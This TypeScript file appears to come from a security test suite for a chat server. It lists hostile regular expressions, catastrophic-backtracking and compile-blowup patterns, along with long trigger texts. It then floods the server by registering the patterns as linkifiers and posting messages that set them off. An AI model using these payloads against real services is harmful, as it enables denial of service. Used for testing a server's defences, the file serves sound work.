import type { Attack, Attacker } from './attack.ts'
import { flooding } from './calls.ts'

const HOSTILE = [
  // Some would compile to huge programs, others would backtrack forever elsewhere.
  '(((a{100}){100}){100}){100}',
  '(?:a{1,1000}){1000}',
  '(a+)+$',
  '(a|aa)+b',
  '(?:a?){500}a{500}',
  '(?i)[a-zäöü\\p{L}\\p{N}]{1,500}',
  `(${'a|'.repeat(5000)}b)`,
  '('.repeat(20_000),
  '(?P<id>.*)'.repeat(500),
  '[\\x{0}-\\x{10FFFF}]{1000}',
  '\\pL'.repeat(10_000),
  '(?=a)b\\1',
] as const
const URL_TEMPLATE = 'https://example.com/'

/** Texts of the maximum length in which every pattern starts everywhere. */
const TEXTS = ['a'.repeat(9900), 'ab'.repeat(4950), 'ä'.repeat(9900), `${'a'.repeat(98)}\n`.repeat(100)] as const

const send = ({ channel }: Attacker, turn: number) => ({
  method: 'POST',
  path: '/api/v1/messages',
  form: { type: 'channel', to: channel, topic: `attack ${turn}`, content: `${turn} ${TEXTS[turn % TEXTS.length]}` },
})

export const linkifierAttacks: readonly Attack[] = [
  flooding(
    'patterns',
    'hostile patterns of linkifiers by who may add them, and texts in which a guest lets them look',
    8,
    (turn, attacker) =>
      turn % 2 === 0
        ? {
            method: 'POST',
            path: '/api/v1/realm/filters',
            // Each is different, so that none is refused as a duplicate.
            form: { pattern: `${HOSTILE[(turn / 2) % HOSTILE.length]}|x${turn}`, url_template: URL_TEMPLATE },
            authorization: attacker.groups.manager,
          }
        : send(attacker, turn),
  ),
]
